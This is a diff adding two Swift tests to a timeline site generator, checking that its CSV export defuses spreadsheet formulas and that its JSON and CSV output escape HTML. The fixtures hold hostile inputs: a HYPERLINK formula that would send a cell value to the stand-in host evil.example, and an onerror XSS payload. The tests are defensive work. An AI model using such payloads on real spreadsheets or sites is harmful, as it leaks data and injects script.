@@ -282,6 +282,55 @@ struct TimelineTests {
         #expect(csv.contains("\"<p>Se <a href=\"\"https://example.org/tidslinje/\"\">tidslinjen</a>.</p>\n\""))
     }
 
+    @Test func cellsThatASpreadsheetWouldRunAsFormulasAreText() async throws {
+        let site = try Self.site("""
+            -- content/events/2022-01-07-formel.md --
+            ---
+            title: '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+            date: 2022-01-07
+            sources: [Ritzau]
+            tags: ["@SUM(A1:A9)"]
+            ---
+            Tekst.
+            -- content/events/2022-01-08-minus.md --
+            ---
+            title: -5 grader i Astana
+            date: 2022-01-08
+            sources: [Ritzau]
+            tags: [+kulde]
+            ---
+            Tekst.
+            """)
+        try await site.build()
+        let cells = try site.outputText("tidslinje.csv").components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
+        #expect(cells.filter { "=+-@".contains($0.first ?? " ") } == [])
+        let csv = try site.outputText("tidslinje.csv")
+        #expect(csv.contains(",\"'=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1"))
+        #expect(csv.contains(",'@SUM(A1:A9),"))
+        #expect(csv.contains(",'-5 grader i Astana,"))
+        #expect(csv.contains(",'+kulde,"))
+    }
+
+    @Test func theTimelineJSGroupIsEscapedLikeItsOtherHTML() async throws {
+        let site = try Self.site("""
+            -- content/events/2022-01-07-gruppe.md --
+            ---
+            title: Gruppe
+            date: 2022-01-07
+            sources: [Ritzau]
+            tags: ["<img src=x onerror=alert(1)>"]
+            ---
+            Tekst.
+            """)
+        try await site.build()
+        let text = try site.outputText("tidslinje.json")
+        let root = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
+        let events = try #require(root["events"] as? [[String: Any]])
+        let slide = try #require(events.first { $0["unique_id"] as? String == "2022-01-07-gruppe" })
+        #expect(slide["group"] as? String == "&lt;img src=x onerror=alert(1)&gt;")
+        #expect(try site.outputText("tidslinje.csv").contains(",&lt;img src=x onerror=alert(1)&gt;,"))
+    }
+
     @Test func theEventsFeedListsEventsNewestFirst() async throws {
         let site = try Self.site("""
             -- content/articles/artikel.md --
